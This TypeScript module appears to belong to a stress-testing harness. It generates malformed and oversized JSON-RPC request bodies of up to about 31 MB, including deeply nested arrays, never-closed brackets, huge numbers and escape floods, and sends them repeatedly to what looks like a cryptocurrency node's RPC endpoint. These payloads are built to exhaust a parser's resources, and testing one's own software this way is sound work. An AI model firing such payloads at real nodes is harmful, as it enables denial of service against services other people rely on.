/** JSON-RPC bodies that cost more to read than to send: deep, wide, long, and many at once. */
import { type Attack, type AttackTarget, between, oneOf, post, repeat, send } from '../target.ts';

const MOST_BYTES = 31_000_000;

const FILLERS: readonly ((length: number) => string)[] = [
  (length) => `[${'[],'.repeat(length / 3)}[]]`,
  (length) => `[${'{},'.repeat(length / 3)}{}]`,
  (length) => `[${'1,'.repeat(length / 2)}1]`,
  (length) => `[${'"",'.repeat(length / 3)}""]`,
  (length) => `{${'"a":1,'.repeat(length / 6)}"a":1}`,
  (length) => `"${'\\u0041'.repeat(length / 6)}"`,
  (length) => `"${'\\ud83d\\ude00'.repeat(length / 12)}"`,
  (length) => `"${'\\\\'.repeat(length / 2)}"`,
  (length) => `"${'é'.repeat(length / 2)}"`,
  (length) => `"${'0'.repeat(length)}"`,
  (length) => '9'.repeat(length),
  (length) => `1e${'9'.repeat(length)}`,
  (length) => `${' \n\t'.repeat(length / 3)}1`,
  (length) => '['.repeat(length / 2) + ']'.repeat(length / 2),
  (length) => ['{"a":'.repeat(length / 6), 1, '}'.repeat(length / 6)].join(''),
  (length) => '['.repeat(length), // never closed
];

function body({ random }: AttackTarget): string {
  const length = Math.floor(oneOf(random, [1e3, 2e4, 2e5, 1e6, 4e6, MOST_BYTES]) * (0.5 + random() / 2));
  const filler = oneOf(random, FILLERS)(length);
  const method = oneOf(random, ['getdifficulty', 'getblockcount', 'getblock', 'getcurrencybalance', 'nonsense']);
  const placed = [
    () => `{"method":"${method}","params":[${filler}],"id":1}`,
    () => `{"method":"${method}","params":${filler},"id":1}`,
    () => `{"method":"${method}","params":[],"id":${filler}}`,
    () => `{"method":${filler},"params":[],"id":1}`,
    () =>
      `[${Array(between(random, 1, 5))
        .fill(`{"method":"${method}","params":[${filler.slice(0, length / 5)}]}`)
        .join(',')}]`,
    () => filler,
  ];
  return oneOf(random, placed)();
}

export const jsonBodies: Attack = {
  name: 'JSON bodies',
  run: (target) =>
    repeat(target, 3, 20, async () => send(target, oneOf(target.random, target.networks), [post('/', body(target))])),
};
